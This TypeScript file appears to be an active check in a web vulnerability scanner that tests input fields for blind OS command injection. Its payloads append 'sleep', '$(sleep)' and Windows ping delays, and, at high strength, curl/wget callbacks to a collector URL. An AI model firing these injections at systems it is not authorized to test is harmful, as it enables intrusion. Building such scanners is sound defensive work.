import { anywhere } from '../../attacks/commands.js';
import { isProven, noteProven } from '../../attacks/economy.js';
import { injectable } from '../../attacks/places.js';
import { hasTechnology, isAtLeast, proofOfDelay, proveCallback } from '../../attacks/prove.js';
import { proveDelay } from '../../attacks/timing.js';
import type { ActiveCheck, Prober, Proof } from '../../check.js';
import type { InputPlace } from '../../exchange.js';

export const check: ActiveCheck = {
  id: 'os-command-injection-blind',
  mode: 'active',
  scope: 'place',
  places: injectable,
  writes: false,
  technologies: [],
  title: 'Command injection, shown by a delay or a request from the server',
  severity: 'critical',
  aliases: ['ZAP-90020', 'CWE-78', 'WASC-31'],
  cwe: 78,
  fix: 'Start programs with a list of arguments and without a shell.',
  references: ['https://pubs.opengroup.org/onlinepubs/9799919799/utilities/sleep.html'],
  cost: { low: 3, medium: 3, high: 7, insane: 7 },
  attack: async (target, prober) =>
    target.scope === 'place' && !isProven(target.place, 'command')
      ? noteProven(target.place, 'command', await prove(target.place, prober))
      : [],
};

async function prove(place: InputPlace, prober: Prober): Promise<readonly Proof[]> {
  for (const payloadFor of delays(place, prober)) {
    const delay = await proveDelay(prober, place, payloadFor);
    if (delay !== undefined) return [proofOfDelay(place, delay)];
  }
  if (!isAtLeast(prober, 'high')) return [];
  const proof = await proveCallback(prober, place, [
    (url) => place.value + anywhere(`curl -s ${url}||wget -qO- ${url}`),
    (url) => `${place.value}$(curl -s ${url}||wget -qO- ${url})`,
  ]);
  return proof === undefined ? [] : [proof];
}

/** Windows has no sleep in its shell; each echo request but the first is a second apart. */
function delays({ value }: InputPlace, prober: Prober): readonly ((seconds: number) => string)[] {
  const posix = (seconds: number) => value + anywhere(`sleep ${seconds}`);
  const windows = (seconds: number) => `${value}&ping -n ${seconds + 1} 127.0.0.1&`;
  const substituted = (seconds: number) => `${value}$(sleep ${seconds})`;
  if (!isAtLeast(prober, 'high')) return [hasTechnology(prober, /windows|iis|aspnet/) ? windows : posix];
  return [posix, substituted, windows];
}
